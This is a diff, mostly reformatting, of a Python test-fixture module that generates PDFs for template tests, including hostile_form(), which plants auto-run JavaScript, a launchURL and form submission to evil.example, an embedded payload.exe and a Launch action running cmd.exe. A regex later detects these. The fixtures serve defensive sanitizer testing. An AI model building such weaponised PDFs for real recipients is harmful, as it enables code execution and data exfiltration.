@@ -1,4 +1,5 @@
 """Real PDF files for the PDF-template tests, made with reportlab: fillable forms, plain pages, hostile ones."""
+
 from __future__ import annotations
 
 import re
@@ -18,8 +19,14 @@ def _body(c, page: int) -> None:
         c.drawString(72, 770 - i * 15, "The Employee shall perform the duties of the position with care.")
 
 
-def contract_form(*, pages: int = 2, fields=CONTRACT_FIELDS, signature: bool = False, checkbox: bool = False,
-                  multiline: str | None = None) -> bytes:
+def contract_form(
+    *,
+    pages: int = 2,
+    fields=CONTRACT_FIELDS,
+    signature: bool = False,
+    checkbox: bool = False,
+    multiline: str | None = None,
+) -> bytes:
     """A 2-page contract whose page 1 has one text field per name in ``fields`` (AcroForm, as Acrobat makes)."""
     buffer = BytesIO()
     c = canvas.Canvas(buffer, pagesize=A4)
@@ -29,11 +36,29 @@ def contract_form(*, pages: int = 2, fields=CONTRACT_FIELDS, signature: bool = F
             for i, name in enumerate(fields):
                 y = 180 - i * 22
                 c.drawString(72, y + 5, f"{name}:")
-                c.acroForm.textfield(name=name, x=200, y=y, width=250, height=18, fontName="Helvetica",
-                                     fontSize=11, borderWidth=0, fillColor=None)
+                c.acroForm.textfield(
+                    name=name,
+                    x=200,
+                    y=y,
+                    width=250,
+                    height=18,
+                    fontName="Helvetica",
+                    fontSize=11,
+                    borderWidth=0,
+                    fillColor=None,
+                )
             if multiline:
-                c.acroForm.textfield(name=multiline, x=72, y=20, width=300, height=40, fontSize=9,
-                                     fieldFlags="multiline", borderWidth=0, fillColor=None)
+                c.acroForm.textfield(
+                    name=multiline,
+                    x=72,
+                    y=20,
+                    width=300,
+                    height=40,
+                    fontSize=9,
+                    fieldFlags="multiline",
+                    borderWidth=0,
+                    fillColor=None,
+                )
             if checkbox:
                 c.acroForm.checkbox(name="agree", x=460, y=180, size=14, checked=True)
         if page == pages and signature:
@@ -125,8 +150,7 @@ def hostile_form() -> bytes:
     from pypdf import PdfReader, PdfWriter
     from pypdf.generic import NameObject, StreamObject
 
-    writer = PdfWriter(clone_from=PdfReader(BytesIO(contract_form(fields=("name", "email", "salary"),
-                                                                  signature=True))))
+    writer = PdfWriter(clone_from=PdfReader(BytesIO(contract_form(fields=("name", "email", "salary"), signature=True))))
     root, page = writer.root_object, writer.pages[0]
 
     def add(value):
@@ -147,21 +171,30 @@ def hostile_form() -> bytes:
     filespec = add({"/Type": "/Filespec", "/F": "payload.exe", "/UF": "payload.exe", "/EF": {"/F": payload}})
     root[NameObject("/OpenAction")] = opening
     root[NameObject("/AA")] = _pdf_object({"/WC": js("app.alert('closing')")})
-    root[NameObject("/Names")] = _pdf_object({
-        "/JavaScript": {"/Names": ["startup", add(js("app.launchURL('http://evil.example/')"))]},
-        "/EmbeddedFiles": {"/Names": ["payload.exe", filespec]}})
+    root[NameObject("/Names")] = _pdf_object(
+        {
+            "/JavaScript": {"/Names": ["startup", add(js("app.launchURL('http://evil.example/')"))]},
+            "/EmbeddedFiles": {"/Names": ["payload.exe", filespec]},
+        }
+    )
     root["/AcroForm"][NameObject("/XFA")] = stream(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')
     page[NameObject("/AA")] = _pdf_object({"/O": js("app.alert('page')")})
     for widget in page["/Annots"]:
         widget = widget.get_object()
         if widget.get("/T") == "name":
             widget[NameObject("/AA")] = _pdf_object({"/K": js("event.value = 'x'")})
-            widget[NameObject("/A")] = _pdf_object({"/S": "/SubmitForm", "/F": {"/FS": "/URL",
-                                                                                  "/F": "http://evil.example/"}})
+            widget[NameObject("/A")] = _pdf_object(
+                {"/S": "/SubmitForm", "/F": {"/FS": "/URL", "/F": "http://evil.example/"}}
+            )
 
     def link(y: int, action: dict) -> dict:
-        return {"/Type": "/Annot", "/Subtype": "/Link", "/Rect": [72, y, 272, y + 14], "/Border": [0, 0, 0],
-                "/A": action}
+        return {
+            "/Type": "/Annot",
+            "/Subtype": "/Link",
+            "/Rect": [72, y, 272, y + 14],
+            "/Border": [0, 0, 0],
+            "/A": action,
+        }
 
     annotations = [
         link(700, {"/S": "/Launch", "/F": "cmd.exe", "/Win": {"/F": "cmd.exe", "/P": "/c calc"}}),
@@ -172,10 +205,19 @@ def hostile_form() -> bytes:
         link(620, {"/S": "/GoToR", "/F": "other.pdf", "/D": [0, "/Fit"]}),
         link(600, {"/S": "/GoToE", "/T": {"/R": "/C", "/N": "payload.exe"}, "/D": [0, "/Fit"]}),
         link(580, {"/S": "/ImportData", "/F": "data.fdf"}),
-        {"/Type": "/Annot", "/Subtype": "/FileAttachment", "/Rect": [300, 700, 320, 720], "/FS": filespec,
-         "/Name": "/Paperclip"},
-        {"/Type": "/Annot", "/Subtype": "/RichMedia", "/Rect": [300, 600, 500, 680],
-         "/RichMediaContent": {"/Assets": {"/Names": ["movie.swf", filespec]}}},
+        {
+            "/Type": "/Annot",
+            "/Subtype": "/FileAttachment",
+            "/Rect": [300, 700, 320, 720],
+            "/FS": filespec,
+            "/Name": "/Paperclip",
+        },
+        {
+            "/Type": "/Annot",
+            "/Subtype": "/RichMedia",
+            "/Rect": [300, 600, 500, 680],
+            "/RichMediaContent": {"/Assets": {"/Names": ["movie.swf", filespec]}},
+        },
     ]
     for annotation in annotations:
         page["/Annots"].append(add(annotation))
@@ -187,8 +229,11 @@ def hostile_form() -> bytes:
 def nested_pdf(depth: int) -> bytes:
     """A one-page PDF whose page holds an array nested ``depth`` deep, written by hand: pypdf writes nesting
     recursively, so it cannot make a file that exhausts a recursive reader."""
-    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
-               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep " + b"[" * depth + b"]" * depth + b" >>"]
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Deep " + b"[" * depth + b"]" * depth + b" >>",
+    ]
     out = bytearray(b"%PDF-1.7\n")
     offsets = []
     for number, body in enumerate(objects, start=1):
@@ -203,9 +248,10 @@ def nested_pdf(depth: int) -> bytes:
 
 #: What no template may keep once it is saved, nor any document made from it: names of actions, scripts, files and
 #: media (as names, delimited), the files and programs ``hostile_form()`` points at, its payload.
-ACTIVE = re.compile(rb"/(JS|JavaScript|Launch|EmbeddedFiles?|AA|XFA|RichMedia|FileAttachment|SubmitForm|ImportData"
-                    rb"|GoToR|GoToE|OpenAction)(?![^\s()<>\[\]{}/%])|payload\.exe|cmd\.exe|evil\.example|"
-                    + re.escape(PAYLOAD))
+ACTIVE = re.compile(
+    rb"/(JS|JavaScript|Launch|EmbeddedFiles?|AA|XFA|RichMedia|FileAttachment|SubmitForm|ImportData"
+    rb"|GoToR|GoToE|OpenAction)(?![^\s()<>\[\]{}/%])|payload\.exe|cmd\.exe|evil\.example|" + re.escape(PAYLOAD)
+)
 
 
 def active_content(pdf: bytes) -> set[str]:
